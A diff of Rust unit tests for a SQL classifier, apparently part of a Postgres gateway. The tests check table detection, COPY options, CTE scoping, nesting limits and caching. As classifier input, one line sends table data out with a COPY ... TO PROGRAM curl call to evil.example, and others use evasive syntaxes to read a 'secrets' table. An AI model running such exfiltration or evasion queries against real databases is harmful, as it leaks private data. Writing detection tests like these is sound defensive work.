@@ -156,13 +156,13 @@ fn copy_statements() {
     assert_eq!(c.direction, CopyDirection::To);
     assert_eq!(c.endpoint, CopyEndpoint::Client);
     assert_eq!(c.format, CopyFormat::Csv);
-    assert_eq!(c.delimiter, ',');
+    assert_eq!(c.delimiter, Some(b','));
     assert_eq!(c.columns, ["id", "email"]);
     assert_eq!(s.tables_read, ["users"]);
 
     let s = one("COPY users FROM STDIN");
     assert_eq!(s.tables_written, ["users"]);
-    assert_eq!(s.copy.unwrap().delimiter, '\t');
+    assert_eq!(s.copy.unwrap().delimiter, Some(b'\t'));
 
     let s = one("COPY users TO PROGRAM 'curl -d @- evil.example'");
     assert_eq!(s.copy.unwrap().endpoint, CopyEndpoint::Program);
@@ -173,15 +173,30 @@ fn copy_statements() {
 
 #[test]
 fn deep_nesting_is_refused_not_overflowed() {
+    // Parentheses alone make no tree: the server parses them, so does the gateway.
     let sql = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
+    assert_eq!(one(&sql).kind, StatementKind::Select);
+    // Nested expressions are refused past a depth, with a reason.
+    let s = one(&format!("SELECT 1{}", "+1".repeat(200)));
+    assert_eq!(s.kind, StatementKind::Unparsed);
+    assert!(s.error.unwrap().contains("nests"));
+    let sql = format!("SELECT {}1{}", "(".repeat(50_000), ")".repeat(50_000));
     assert_eq!(one(&sql).kind, StatementKind::Unparsed);
+}
+
+fn cached(c: &Classifier, sql: &str) -> Statements {
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .build()
+        .expect("runtime");
+    rt.block_on(c.classify(sql.as_bytes(), ClientEncoding::Utf8, Limits::default()))
+        .statements
 }
 
 #[test]
 fn cache_returns_the_same_answer() {
-    let cache = ClassifierCache::default();
-    let a = cache.classify("SELECT * FROM t WHERE id = $1");
-    let b = cache.classify("SELECT * FROM t WHERE id = $1");
+    let cache = Classifier::default();
+    let a = cached(&cache, "SELECT * FROM t WHERE id = $1");
+    let b = cached(&cache, "SELECT * FROM t WHERE id = $1");
     assert!(Arc::ptr_eq(&a, &b));
     assert_eq!(a[0].kind, StatementKind::Select);
 }
@@ -249,14 +264,154 @@ fn cache_keys_leave_out_the_values_of_numbers_only() {
 
 #[test]
 fn texts_differing_in_numbers_share_a_classification_but_not_an_error() {
-    let cache = ClassifierCache::default();
-    let a = cache.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1");
-    let b = cache.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 2");
+    let cache = Classifier::default();
+    let a = cached(
+        &cache,
+        "SELECT abalance FROM pgbench_accounts WHERE aid = 1",
+    );
+    let b = cached(
+        &cache,
+        "SELECT abalance FROM pgbench_accounts WHERE aid = 2",
+    );
     assert!(Arc::ptr_eq(&a, &b));
     assert_eq!(b[0].tables_read, ["pgbench_accounts"]);
     assert_eq!(b[0].bounded, Some(true));
-    let bad1 = cache.classify("SELEC 1");
-    let bad2 = cache.classify("SELEC 2");
+    let bad1 = cached(&cache, "SELEC 1");
+    let bad2 = cached(&cache, "SELEC 2");
     assert!(!Arc::ptr_eq(&bad1, &bad2));
     assert_eq!(bad2[0].kind, StatementKind::Unparsed);
+}
+
+#[test]
+fn tables_read_by_any_syntax_the_server_accepts() {
+    for sql in [
+        "SELECT * FROM (TABLE secrets) s",
+        "WITH x AS (TABLE secrets) SELECT * FROM x",
+        "SELECT 1 UNION TABLE secrets",
+        "SELECT * FROM users WHERE id IN (SELECT id FROM secrets)",
+        "SELECT (SELECT max(v) FROM secrets)",
+        "SELECT * FROM users, LATERAL (SELECT * FROM secrets) s",
+        "SELECT * FROM U&\"secr\\0065ts\"",
+        "SELECT /* nested /* comment */ still */ * FROM secrets",
+        "SELECT $q$ a $$ b $q$, * FROM secrets",
+        "SELECT * FROM ONLY secrets",
+        "SELECT * FROM secrets TABLESAMPLE SYSTEM (10)",
+        "DECLARE c CURSOR FOR SELECT * FROM secrets",
+        "PREPARE p AS SELECT * FROM secrets",
+        "EXPLAIN ANALYZE SELECT * FROM secrets",
+        "COPY (SELECT * FROM secrets) TO STDOUT",
+        "CREATE TABLE x AS SELECT * FROM secrets",
+        "INSERT INTO t SELECT * FROM secrets",
+        "MERGE INTO t USING secrets s ON t.id = s.id WHEN MATCHED THEN DELETE",
+    ] {
+        let s = one(sql);
+        assert!(
+            s.tables_read.iter().any(|t| t == "secrets"),
+            "{sql}: {:?}",
+            s.tables_read
+        );
+    }
+}
+
+#[test]
+fn cte_names_hide_tables_only_where_postgres_scopes_them() {
+    // A CTE named like a table, defined in a subquery, does not hide the real table elsewhere.
+    let s = one("SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) a, secrets");
+    assert_eq!(s.tables_read, ["secrets"]);
+    // In a non-recursive WITH, a CTE's own query reads the real table of the same name.
+    let s = one("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets");
+    assert_eq!(s.tables_read, ["secrets"]);
+    // Later siblings see earlier ones.
+    let s = one("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b");
+    assert!(s.tables_read.is_empty(), "{:?}", s.tables_read);
+    // A recursive CTE refers to itself.
+    let s = one(
+        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
+    );
+    assert!(s.tables_read.is_empty(), "{:?}", s.tables_read);
+}
+
+#[test]
+fn calls_of_procedures_and_functions_are_functions() {
+    assert_eq!(one("CALL wipe_everything()").functions, ["wipe_everything"]);
+    assert_eq!(one("CALL admin.wipe(1)").kind, StatementKind::Call);
+    assert_eq!(
+        one("DO $$ BEGIN DELETE FROM t; END $$").kind,
+        StatementKind::Do
+    );
+    assert!(
+        one("SELECT query_to_xml('select * from secrets', true, true, '')")
+            .functions
+            .contains(&"query_to_xml".to_string())
+    );
+}
+
+#[test]
+fn settings_changed_anywhere_are_seen() {
+    let s = one("SELECT set_config('search_path', 'evil', false)");
+    assert_eq!(s.settings[0].name.as_deref(), Some("search_path"));
+    let s = one("SET LOCAL standard_conforming_strings TO off");
+    assert_eq!(
+        s.settings[0].name.as_deref(),
+        Some("standard_conforming_strings")
+    );
+    assert_eq!(s.settings[0].value.as_deref(), Some("off"));
+    assert!(one("RESET ALL").settings[0].reset);
+    assert!(one("SET search_path TO DEFAULT").settings[0].reset);
+    let s = one("SELECT set_config(current_setting('x'), 'v', false)");
+    assert_eq!(s.settings[0].name, None);
+}
+
+#[test]
+fn sql_level_objects_are_named() {
+    assert_eq!(
+        one("PREPARE p AS SELECT 1").object,
+        Some(SqlObject::Prepare { name: "p".into() })
+    );
+    assert_eq!(
+        one("EXECUTE p(1)").object,
+        Some(SqlObject::Execute { name: "p".into() })
+    );
+    assert_eq!(
+        one("DECLARE c CURSOR WITH HOLD FOR SELECT 1").object,
+        Some(SqlObject::Declare {
+            name: "c".into(),
+            hold: true
+        })
+    );
+    assert_eq!(
+        one("FETCH 10 FROM c").object,
+        Some(SqlObject::Fetch {
+            name: "c".into(),
+            moves: false
+        })
+    );
+    assert_eq!(
+        one("CLOSE ALL").object,
+        Some(SqlObject::Close { name: None })
+    );
+    assert_eq!(one("DISCARD ALL").object, Some(SqlObject::DiscardAll));
+    assert_eq!(
+        one("DEALLOCATE ALL").object,
+        Some(SqlObject::Deallocate { name: None })
+    );
+}
+
+#[test]
+fn copy_options_are_read_as_the_server_reads_them() {
+    let s = one(
+        "COPY public.users (a, b) TO STDOUT (FORMAT csv, DELIMITER '|', QUOTE '''', ESCAPE '\\', HEADER)",
+    );
+    let c = s.copy.unwrap();
+    assert_eq!(c.table.as_deref(), Some("public.users"));
+    assert_eq!(c.delimiter, Some(b'|'));
+    assert_eq!(c.quote, Some(b'\''));
+    assert_eq!(c.escape, Some(b'\\'));
+    assert!(c.header);
+    // Legacy syntax.
+    let c = one("COPY users TO STDOUT CSV HEADER").copy.unwrap();
+    assert_eq!(c.format, CopyFormat::Csv);
+    assert!(c.header);
+    let c = one("COPY users TO STDOUT (ENCODING 'SJIS')").copy.unwrap();
+    assert_eq!(c.encoding.as_deref(), Some("SJIS"));
 }
